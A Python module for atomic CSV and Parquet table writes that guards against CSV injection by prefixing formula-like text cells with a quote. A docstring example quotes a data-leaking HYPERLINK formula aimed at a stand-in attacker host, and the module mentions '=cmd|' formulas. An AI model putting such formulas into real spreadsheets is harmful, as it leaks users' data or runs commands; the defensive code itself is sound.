"""Atomic CSV and Parquet writes: a reader never sees a half-written table.

CSV is written for spreadsheets as well as for programs:

- UTF-8 with a byte-order mark, so that Excel opens it as UTF-8 and shows "£" (without
  the mark it guesses the locale's code page). Python's `csv` and pandas read it with
  `encoding="utf-8-sig"` (pandas also with its default); the BOM is only in CSV.
- Formula cells neutralised (OWASP "CSV injection"): a text cell that starts with `=`,
  `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so Excel and LibreOffice
  show the text instead of running `=HYPERLINK(...)` or `=cmd|...` found in a council
  document (issue 12, finding 8). Only text columns: a number column's -5000 stays a
  number. Parquet and DuckDB keep the text exactly as read.
- Lines end in CRLF (RFC 4180), so that a cell holding a line break of either kind is quoted.
"""

from __future__ import annotations

from pathlib import Path
from typing import TextIO

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

from export.atomic import atomic_write, atomic_write_text, pause_at, put_in_place, temp_beside

__all__ = ["atomic_write", "atomic_write_text", "pause_at"]  # their home is export.atomic (no pandas to import)

CSV_ENCODING = "utf-8-sig"  # UTF-8 with a byte-order mark: see the module docstring
# RFC 4180 line ends. Python's csv quotes a cell only for the characters of the line end,
# so with "\n" alone a cell holding a bare "\r" went out unquoted and split its row in
# every reader (Excel, pandas, csv); with "\r\n" such a cell is quoted.
CSV_LINE_END = "\r\n"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """Given a cell, return it with a leading `'` if it is text a spreadsheet would run as a formula.

    >>> print(neutralise('=HYPERLINK("http://evil.example/?"&A1,"x")'))
    '=HYPERLINK("http://evil.example/?"&A1,"x")
    >>> neutralise("-£5,000 shortfall"), neutralise("Delay"), neutralise(-5000)
    ("'-£5,000 shortfall", 'Delay', -5000)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """Given a frame, return it with every text column's formula cells neutralised (numbers untouched)."""
    text = [c for c in df.columns if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])]
    if not text:
        return df
    out = df.copy(deep=False)
    for col in text:
        out[col] = df[col].map(neutralise, na_action="ignore")
    return out


def write_csv(df: pd.DataFrame, target: Path | TextIO, *, header: bool = True) -> None:
    """Given a frame and a path (or an open text file), write it as the dataset's CSV."""
    csv_safe(df).to_csv(target, index=False, header=header, encoding=CSV_ENCODING, lineterminator=CSV_LINE_END)


def write_table(out_dir: Path, name: str, df: pd.DataFrame) -> list[Path]:
    """Given an output folder, a table name and its frame, write NAME.csv and NAME.parquet atomically."""
    csv_path, parquet_path = out_dir / f"{name}.csv", out_dir / f"{name}.parquet"
    atomic_write(csv_path, lambda p: write_csv(df, p))
    atomic_write(parquet_path, lambda p: df.to_parquet(p, index=False))
    return [csv_path, parquet_path]


class TableSink:
    """One table written chunk by chunk to temporary CSV and Parquet files, then put in place.

    For tables too big to hold whole: each `append` adds a frame's rows (the caller sends
    them in final order), `finish` closes the temporary files, `commit` renames them over
    NAME.csv and NAME.parquet. Leaving the `with` block without a commit deletes them, so
    an interrupted write leaves the previous tables as they were.

    The Parquet schema is the first non-empty chunk's; later chunks are converted to it
    (a column that is all missing in one chunk must not change type in the next).
    """

    def __init__(self, out_dir: Path, name: str) -> None:
        self.name = name
        self.paths = {ext: out_dir / f"{name}.{ext}" for ext in ("csv", "parquet")}
        self.temps = {ext: temp_beside(path) for ext, path in self.paths.items()}
        self._csv = self.temps["csv"].open("w", encoding=CSV_ENCODING, newline="")
        self._parquet: pq.ParquetWriter | None = None
        self._schema: pa.Schema | None = None
        self.rows = 0

    def __enter__(self) -> TableSink:
        return self

    def __exit__(self, *exc: object) -> None:
        self.discard()

    def append(self, df: pd.DataFrame) -> None:
        """Given a frame of the table's next rows, write them."""
        if not df.empty:
            self._write(df)

    def _write(self, df: pd.DataFrame) -> None:
        """Given a frame, add its rows to both files (the first one also sets header and schema)."""
        write_csv(df, self._csv, header=self._schema is None)
        table = pa.Table.from_pandas(df, schema=self._schema, preserve_index=False)
        if self._parquet is None:
            self._schema = table.schema
            self._parquet = pq.ParquetWriter(self.temps["parquet"], self._schema)
        self._parquet.write_table(table)
        self.rows += len(df)

    def finish(self, empty: pd.DataFrame) -> dict[str, Path]:
        """Given the table's empty frame (its columns, for a table with no rows), close the
        temporary files and return them by extension."""
        if self._schema is None:
            self._write(empty)
        self._close()
        return dict(self.temps)

    def _close(self) -> None:
        """Close the temporary files (again is harmless)."""
        self._csv.close()
        if self._parquet is not None:
            self._parquet.close()
            self._parquet = None

    def commit(self) -> list[Path]:
        """Put the finished temporary files in place of the table's files and return their paths."""
        for ext, tmp in self.temps.items():
            put_in_place(tmp, self.paths[ext])
        self.temps = {}
        return list(self.paths.values())

    def discard(self) -> None:
        """Close and delete whatever temporary files are left (nothing after a commit)."""
        self._close()
        for tmp in self.temps.values():
            tmp.unlink(missing_ok=True)
        self.temps = {}
